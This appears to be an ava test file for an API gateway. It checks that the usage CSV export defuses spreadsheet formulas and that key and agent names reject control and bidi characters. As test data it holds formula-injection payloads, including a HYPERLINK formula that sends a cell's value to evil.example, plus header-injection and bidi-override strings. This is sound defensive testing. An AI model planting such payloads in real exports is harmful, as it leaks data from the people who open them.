import test from 'ava';
import { Readable } from 'node:stream';
import { startGateway, type TestGateway } from '../helpers/stack';
import { usageCsvStream } from '../../gateway/routes/usage';
import { CSV_COLUMNS } from '../../capabilities/usage/usage-view';
import { neutraliseFormula } from '../../domain/csv-cell';
import { adminAs, newAgent, newEnterprise } from '../agents/helpers';

// Security audit: the usage CSV never hands a spreadsheet a formula, and the names people give keys, agent keys and
// agents carry no control or bidi characters.

let gw: TestGateway;
test.before(async () => {
  gw = await startGateway({}, { simulator: true });
});
test.after.always(async () => gw?.close());

const FORMULAS = ['=1+2', '+1+2', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil.example/?x="&A1,"x")'];

async function csvOf(rows: Array<Record<string, unknown>>): Promise<string> {
  let out = '';
  for await (const chunk of usageCsvStream(Readable.from(rows))) out += String(chunk);
  return out;
}

test('the CSV body: text cells that would start a formula get a leading quote; number cells stay as they are', async (t) => {
  for (const f of FORMULAS) t.is(neutraliseFormula(f), `'${f}`);
  for (const s of ['ci key', 'gpt-5.1', '', 'a=b', "'=already"]) t.is(neutraliseFormula(s), s);
  const base = Object.fromEntries(CSV_COLUMNS.map((c) => [c, null])) as Record<string, unknown>;
  const csv = await csvOf([
    { ...base, id: 'req_1', key_name: '=1+2', model: '@SUM(A1)', error_message: '-2+3', unit_type: '+x', cost_usd: '-0.001', input_tokens: 12, latency_ms: 5, attempts_count: 1 },
  ]);
  const [header, row] = csv.trim().split('\n');
  t.is(header, CSV_COLUMNS.join(','));
  const cells = row.split(',');
  const at = (c: string) => cells[CSV_COLUMNS.indexOf(c as (typeof CSV_COLUMNS)[number])];
  t.is(at('key_name'), "'=1+2");
  t.is(at('model'), "'@SUM(A1)");
  t.is(at('error_message'), "'-2+3");
  t.is(at('unit_type'), "'+x");
  t.is(at('cost_usd'), '-0.001');
  t.is(at('input_tokens'), '12');
  t.is(at('id'), 'req_1');
  t.is(cells.length, 21);
});

test('the export: a key named as a formula and a model asked as one come out as text', async (t) => {
  const acc = await gw.newAccount();
  const key = (await gw.newKey(acc.id, { name: '=HYPERLINK("http://evil.example","x")' })).key;
  const h = { authorization: `Bearer ${key}`, 'content-type': 'application/json' };
  const r = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: h, body: JSON.stringify({ model: '@SUM(A1)', messages: [{ role: 'user', content: 'hi' }] }) });
  await r.text();
  const ok = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: h, body: JSON.stringify({ model: 'gpt-5.1', max_tokens: 5, messages: [{ role: 'user', content: 'hi' }] }) });
  t.is(ok.status, 200, await ok.text());
  await gw.flushRows();
  const text = await (await fetch(`${gw.url}/api/v1/usage/export`, { headers: h })).text();
  const lines = text.trim().split('\n').slice(1);
  t.is(lines.length, 2, text);
  for (const line of lines) t.true(line.includes(`"'=HYPERLINK(""http://evil.example"",""x"")"`), line);
  t.true(lines.some((l) => l.includes(",'@SUM(A1),")), text);
  // No cell of any line starts a formula.
  for (const line of lines) t.false(/(^|,)"?[=+\-@\t\r]/.test(line), line);
});

const BAD_NAMES = ['a\u0000b', 'a\r\nX-Injected: 1', 'line\nbreak', 'tab\there', 'del\u007f', 'c1\u0085', 'x\u202eevil', 'x\u202a', 'x\u2066y', 'x\u2069'];

test('names of API keys, agents and agent keys refuse control and bidi characters with a 400 naming the field', async (t) => {
  const acc = await gw.newAccount();
  const k = await gw.newKey(acc.id, { name: 'fine' });
  const ent = await newEnterprise(gw);
  const agent = await newAgent(gw, ent);
  for (const name of BAD_NAMES) {
    const label = JSON.stringify(name);
    const calls = [
      await gw.admin('POST', `/accounts/${acc.id}/keys`, { name }),
      await gw.admin('PATCH', `/keys/${k.id}`, { name }),
      await adminAs(gw, ent.owner, 'POST', `/accounts/${ent.id}/agents`, { name, system_prompt: 'x' }),
      await adminAs(gw, ent.owner, 'PATCH', `/agents/${agent.id}`, { name }),
      await adminAs(gw, ent.member, 'POST', `/agents/${agent.id}/key-requests`, { name }),
      await adminAs(gw, ent.admin, 'POST', `/agents/${agent.id}/keys`, { name, spend_cap_usd: '1' }),
    ];
    for (const [i, r] of calls.entries()) {
      t.is(r.status, 400, `${i} ${label}: ${JSON.stringify(r.body)}`);
      t.is(r.body?.error?.param, 'name', `${i} ${label}: ${JSON.stringify(r.body)}`);
    }
  }
  // Names in any script, with spaces and punctuation, still go through.
  t.is((await gw.admin('POST', `/accounts/${acc.id}/keys`, { name: 'CI – déploiement 部署 (prod)' })).status, 201);
  t.is((await adminAs(gw, ent.owner, 'PATCH', `/agents/${agent.id}`, { name: 'Helfer – 助手' })).status, 200);
});
